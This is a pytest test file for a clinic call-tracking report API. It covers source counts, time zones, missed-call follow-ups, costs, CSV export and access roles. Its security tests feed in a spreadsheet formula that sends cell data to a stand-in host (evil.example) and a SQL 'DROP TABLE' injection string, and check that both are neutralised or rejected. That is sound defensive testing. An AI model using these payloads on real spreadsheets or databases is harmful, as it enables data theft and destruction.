"""The marketers' report over REST on SQLite and PostgreSQL: counts per source, days in the clinic's time
zone, missed callers reached afterwards, costs per call, CSV that a spreadsheet cannot run, hostile
query strings and roles."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp import web

from tests.support.clock import Clock
from tests.support.logins import Client, ClientMaker, start_app
from tests.support.tracking_reports import call, cost, store, task, tokens

# Moscow is UTC+3: local midnight of 1 November is 31 October 21:00 UTC.
NOV_1 = datetime(2026, 10, 31, 21, 0, tzinfo=UTC)
NOW = datetime(2026, 12, 3, 12, 0, tzinfo=UTC)


class Api:
    def __init__(self, app: web.Application, client: Client, tokens: dict[str, str]) -> None:
        self.app = app
        self.client = client
        self.tokens = tokens

    async def get(self, path: str, role: str = "marketer", **headers: str) -> tuple[int, Any, str]:
        headers = {"Authorization": f"Bearer {self.tokens[role]}", **headers}
        async with self.client.get(path, headers=headers) as resp:
            text = await resp.text()
            body = await resp.json() if resp.content_type == "application/json" else text
            return resp.status, body, resp.content_type

    async def report(self, query: str) -> dict[str, Any]:
        status, body, _ = await self.get(f"/api/tracking/report?{query}")
        assert status == 200, body
        return dict(body)


@pytest.fixture
async def api(db_url: str, aiohttp_client: ClientMaker) -> Api:
    app, client = await start_app(db_url, aiohttp_client, Clock(NOW), tracking={"target_call_seconds": 60})
    made = await tokens(app, "marketer", "manager", "admin", "operator", "integration")
    return Api(app, client, made)


def rows_by_key(report: dict[str, Any]) -> dict[str | None, dict[str, Any]]:
    return {row["key"]: row for row in report["rows"]}


async def test_counts_per_source_with_unique_first_time_answered_missed_and_target_calls(api: Api) -> None:
    day = NOV_1 + timedelta(days=4, hours=9)
    await store(
        api.app,
        [
            call(day, caller="+79160000001", first_time=True, talk=60),  # exactly the threshold: target
            call(day + timedelta(hours=1), caller="+79160000001", talk=59),  # a second short of it
            call(day + timedelta(hours=2), caller="+79160000002", status="missed"),
            call(day, caller="+79160000003", source="google", first_time=True, talk=300),
            call(day, caller="+79160000002", source=None, channel="direct"),
            # Not counted: outbound, and inbound outside November.
            call(day, caller="+79160000004", direction="outbound"),
            call(NOV_1 - timedelta(seconds=1), caller="+79160000005"),
        ],
    )
    report = await api.report("group=source&from=2026-11-01&to=2026-11-30")
    assert (report["group"], report["from"], report["to"], report["timezone"]) == (
        "source",
        "2026-11-01",
        "2026-11-30",
        "Europe/Moscow",
    )
    rows = rows_by_key(report)
    assert list(rows) == ["yandex", "google", None], "most calls first; calls without a source last"
    yandex = rows["yandex"]
    assert {
        k: yandex[k] for k in ("calls", "unique_callers", "first_time_callers", "answered", "missed")
    } == {
        "calls": 3,
        "unique_callers": 2,
        "first_time_callers": 1,
        "answered": 2,
        "missed": 1,
    }
    assert yandex["target_calls"] == 1
    assert (yandex["leads"], yandex["bookings"], yandex["revenue"]) == (None, None, None)
    totals = report["totals"]
    assert (totals["calls"], totals["target_calls"]) == (5, 3)
    # +79160000002 called under two sources: counted once in the totals.
    assert totals["unique_callers"] == 3


async def test_days_are_the_clinics_days_across_the_utc_boundary(api: Api) -> None:
    await store(
        api.app,
        [
            call(NOV_1, source="first-minute"),  # 1 Nov 00:00 Moscow
            call(NOV_1 - timedelta(minutes=1), source="october"),  # 31 Oct 23:59 Moscow
            call(datetime(2026, 11, 30, 20, 59, tzinfo=UTC), source="last-minute"),  # 30 Nov 23:59
            call(datetime(2026, 11, 30, 21, 0, tzinfo=UTC), source="december"),  # 1 Dec 00:00
        ],
    )
    november = rows_by_key(await api.report("group=source&from=2026-11-01&to=2026-11-30"))
    assert set(november) == {"first-minute", "last-minute"}
    one_day = rows_by_key(await api.report("group=source&from=2026-12-01&to=2026-12-01"))
    assert set(one_day) == {"december"}


async def test_missed_callers_reached_afterwards_and_how_fast(api: Api) -> None:
    missed_at = NOV_1 + timedelta(days=2, hours=10)
    reached_task = task(
        "+79160000011", missed_at, resolution="reached", closed_at=missed_at + timedelta(minutes=30)
    )
    unreachable = task(
        "+79160000013", missed_at, resolution="unreachable", closed_at=missed_at + timedelta(hours=1)
    )
    await store(
        api.app,
        [
            reached_task,
            unreachable,
            call(missed_at, caller="+79160000011", status="missed", task=reached_task.id),
            # No task closed it, but the clinic called back 90 minutes later and got through.
            call(missed_at, caller="+79160000012", status="missed"),
            call(missed_at + timedelta(minutes=90), direction="outbound", called="+79160000012"),
            # Marked unreachable, then the patient called again a day later and was answered.
            call(missed_at, caller="+79160000013", status="missed", task=unreachable.id),
            call(missed_at + timedelta(days=1), caller="+79160000013", source="google"),
            # Never reached: only a later missed call and an earlier answered one.
            call(missed_at, caller="+79160000014", status="missed"),
            call(missed_at - timedelta(hours=1), caller="+79160000014"),
            call(missed_at + timedelta(hours=2), caller="+79160000014", status="missed"),
        ],
    )
    yandex = rows_by_key(await api.report("group=source&from=2026-11-01&to=2026-11-30"))["yandex"]
    assert yandex["missed"] == 5
    assert yandex["missed_then_reached"] == 3
    # 30 min, 90 min (+10 s until the callback was answered; past the first hour delays count in whole
    # minutes) and a day: the middle one.
    assert yandex["reached_median_minutes"] == 90.0


async def test_costs_give_cost_per_call_and_per_target_call_spread_over_the_days(api: Api) -> None:
    day = NOV_1 + timedelta(days=10)
    await store(
        api.app,
        [
            call(day, talk=120),
            call(day, talk=10),
            call(day, source="google", talk=120),
            cost("2026-11", "30000", source="yandex", channel="paid"),
            cost("2026-11", "9000", source="google"),
            cost("2026-10", "99999", source="yandex"),  # another month: not in this report
            cost("2026-11", "3000", source="vk"),  # spent, no calls: still a row
            cost("2026-11", "6000", channel="paid"),  # not split by source
        ],
    )
    report = await api.report("group=source&from=2026-11-01&to=2026-11-30")
    rows = rows_by_key(report)
    assert (rows["yandex"]["cost"], rows["yandex"]["currency"]) == (30000.0, "RUB")
    assert (rows["yandex"]["cost_per_call"], rows["yandex"]["cost_per_target_call"]) == (15000.0, 30000.0)
    assert rows["vk"]["calls"] == 0 and rows["vk"]["cost"] == 3000.0 and rows["vk"]["cost_per_call"] is None
    assert report["totals"]["cost"] == 48000.0
    assert report["totals"]["cost_unassigned"] == {"RUB": 6000.0}
    # Half of November: half of each month's cost.
    half = rows_by_key(await api.report("group=source&from=2026-11-01&to=2026-11-15"))
    assert half["yandex"]["cost"] == 15000.0
    by_channel = rows_by_key(await api.report("group=channel&from=2026-11-01&to=2026-11-30"))
    assert by_channel["paid"]["cost"] == 36000.0


async def test_csv_export_neutralises_formulas_and_keeps_text_as_data(api: Api) -> None:
    day = NOV_1 + timedelta(days=1)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await store(
        api.app,
        [
            call(day, source=evil),
            call(day, source="@SUM(1+1)"),
            call(day, source='Яндекс, "Директ"'),
            call(day, source="-2+3"),
            call(day, source=None, tracking_number="+74951110020"),
        ],
    )
    status, text, content_type = await api.get(
        "/api/tracking/report?group=source&from=2026-11-01&to=2026-11-30&format=csv"
    )
    assert (status, content_type) == (200, "text/csv")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Source", "Calls", "Unique callers"]
    keys = {row[0] for row in rows[1:]}
    assert "'" + evil in keys and "'@SUM(1+1)" in keys and "'-2+3" in keys
    assert 'Яндекс, "Директ"' in keys, "a comma and quotes stay inside one cell"
    assert "(not set)" in keys and rows[-1][0] == "Total"
    # Accept: text/csv works too, and Russian headers on request; a phone number is not mangled.
    status, text, _ = await api.get(
        "/api/tracking/report?group=tracking_number&from=2026-11-01&to=2026-11-30&lang=ru", Accept="text/csv"
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:2] == ["Номер отслеживания", "Звонки"]
    assert "+74951110020" in {row[0] for row in rows} and rows[-1][0] == "Итого"


@pytest.mark.parametrize(
    "query",
    [
        "group=password",
        "group=source%3B%20DROP%20TABLE%20calls",
        "from=2026-13-01",
        "from=2026-02-30",
        "from=26-11-01",
        "from=2026-11-01T00:00:00",
        "to=99999-01-01",
        "from=1900-01-01",
        "from=2026-11-30&to=2026-11-01",
        "format=xml",
        "lang=de",
        "from=%D9%A2%D9%A0%D9%A2%D9%A6-11-01",  # Arabic-Indic digits
    ],
)
async def test_hostile_queries_get_400_with_a_slug(api: Api, query: str) -> None:
    status, body, _ = await api.get(f"/api/tracking/report?{query}")
    assert status == 400
    assert body["error"] == "invalid-parameter"


async def test_hostile_text_in_the_url_is_refused_before_the_report(api: Api) -> None:
    status, body, _ = await api.get("/api/tracking/report?group=source%00")
    assert (status, body["error"]) == (400, "invalid-text")
    status, body, _ = await api.get("/api/tracking/report/series?interval=year")
    assert (status, body["error"]) == (400, "invalid-parameter")
    status, body, _ = await api.get("/api/tracking/report/series?top=0")
    assert (status, body["error"]) == (400, "invalid-parameter")
    status, body, _ = await api.get("/api/tracking/report/series?from=1970-01-01&to=2199-12-31")
    assert (status, body["error"]) == (400, "invalid-parameter")


async def test_any_range_of_days_reads_only_the_days_with_calls(api: Api) -> None:
    await store(api.app, [call(NOV_1 + timedelta(days=3))])
    report = await api.report("group=source&from=1970-01-01&to=2199-12-31")
    assert report["totals"]["calls"] == 1
    status, body, _ = await api.get(
        "/api/tracking/report/series?interval=month&from=1970-01-01&to=2199-12-31"
    )
    assert status == 200 and sum(body["series"][0]["calls"]) == 1


@pytest.mark.parametrize("role", ["operator", "integration"])
async def test_roles_without_tracking_get_403(api: Api, role: str) -> None:
    for path in ("/api/tracking/report", "/api/tracking/report/series"):
        status, body, _ = await api.get(path, role)
        assert (status, body["error"]) == (403, "forbidden")


async def test_managers_and_admins_read_reports_and_no_login_is_401(api: Api) -> None:
    for role in ("manager", "admin"):
        status, _, _ = await api.get("/api/tracking/report", role)
        assert status == 200
    async with api.client.get("/api/tracking/report") as resp:
        assert resp.status == 401


async def test_series_per_day_week_and_month_with_the_rest_as_other(api: Api) -> None:
    await store(
        api.app,
        [
            call(NOV_1 + timedelta(days=0, hours=1), source="yandex"),
            call(NOV_1 + timedelta(days=0, hours=2), source="yandex"),
            call(NOV_1 + timedelta(days=2, hours=1), source="yandex"),
            call(NOV_1 + timedelta(days=2, hours=1), source="google"),
            call(NOV_1 + timedelta(days=9, hours=1), source="vk"),
        ],
    )
    status, body, _ = await api.get(
        "/api/tracking/report/series?group=source&from=2026-11-01&to=2026-11-03&top=1"
    )
    assert status == 200
    assert body["buckets"] == ["2026-11-01", "2026-11-02", "2026-11-03"]
    assert body["series"] == [
        {"key": "yandex", "other": False, "calls": [2, 0, 1]},
        {"key": None, "other": True, "calls": [0, 0, 1]},
    ]
    _, weekly, _ = await api.get(
        "/api/tracking/report/series?group=source&interval=week&from=2026-11-01&to=2026-11-30"
    )
    # 1 November 2026 is a Sunday: its week began on Monday 26 October.
    assert weekly["buckets"][:3] == ["2026-10-26", "2026-11-02", "2026-11-09"]
    by_key = {s["key"]: s["calls"] for s in weekly["series"]}
    assert by_key["yandex"][:2] == [2, 1] and by_key["vk"][:3] == [0, 0, 1]
    _, monthly, _ = await api.get(
        "/api/tracking/report/series?group=channel&interval=month&from=2026-10-01&to=2026-11-30"
    )
    assert monthly["buckets"] == ["2026-10", "2026-11"]
    assert monthly["series"] == [{"key": "paid", "other": False, "calls": [0, 5]}]
